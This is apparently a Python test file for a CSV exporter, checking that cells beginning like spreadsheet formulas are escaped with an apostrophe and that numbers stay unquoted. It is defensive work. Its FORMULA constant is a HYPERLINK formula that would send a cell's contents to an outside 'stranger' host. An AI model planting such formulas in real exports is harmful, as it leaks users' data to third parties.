"""CSV: safe to open in a spreadsheet, exact for numbers."""

import csv
import io

import pytest

from foundation.csv_rows import CsvRows
from serving.answers import SCHEMA
from serving.output.csv_file import write_csv
from tests.builders import match, no_match

FORMULA = '=HYPERLINK("http://stranger/?"&A1,"photo")'


def rows(*answers) -> list[dict[str, str]]:
    """Returns the rows of the answers, one query each, as a reader of CSV sees them."""
    file = io.StringIO()
    write_csv([[answer] for answer in answers], file)
    return list(csv.DictReader(io.StringIO(file.getvalue(), newline="")))


@pytest.mark.parametrize("start", [*"=+-@\t\r\n\0", "＝", "＋", "－", "＠"])
def test_no_cell_begins_like_a_formula(start: str) -> None:
    """An apostrophe before it makes the cell text; it stands there once, and the rest is untouched."""
    (row,) = rows(no_match(query=f"{start}1+1"))
    assert row["query"] == f"'{start}1+1"


@pytest.mark.parametrize("column", ["query", "photo_id", "uri", "first_seen_uri", "caption", "credit", "reason"])
def test_every_column_of_text_is_covered(column: str) -> None:
    """Captions, credits, names and reasons come from strangers."""
    (row,) = rows(match(**{column: FORMULA}))
    assert row[column] == "'" + FORMULA
    assert [name for name in SCHEMA.names if row[name].startswith("'")] == [column]


def test_other_text_is_as_it_was() -> None:
    """A sign further on, an apostrophe, a blank or no text at all begins no formula."""
    for text in ("a=b", "'quoted", " =", "100%", "", "(=1)", "é"):
        (row,) = rows(match(caption=text))
        assert row["caption"] == text


def test_numbers_stay_numbers() -> None:
    """A negative similarity begins with a minus, and no spreadsheet runs it; a transform is a list."""
    file = io.StringIO()
    write_csv([[match(similarity=-0.5, transform=[-1.0, 0.0])]], file)
    assert ",-0.5," in file.getvalue()
    (row,) = rows(match(similarity=-0.5, transform=[-1.0, 0.0]))
    assert (row["similarity"], row["transform"]) == ("-0.5", "[-1.0, 0.0]")


def test_a_csv_opens_without_quotes_around_numbers() -> None:
    """Spreadsheets and readers see numbers as numbers."""
    file = io.StringIO()
    write_csv([[match()]], file)
    assert ",1," in file.getvalue().splitlines()[1]


def test_rows_of_any_kind_are_covered() -> None:
    """The list of decoded pictures is written by the same rows."""
    file = io.StringIO()
    CsvRows(file, ["name", "count"]).write(["@home", -3])
    assert file.getvalue() == '"name","count"\n"\'@home",-3\n'
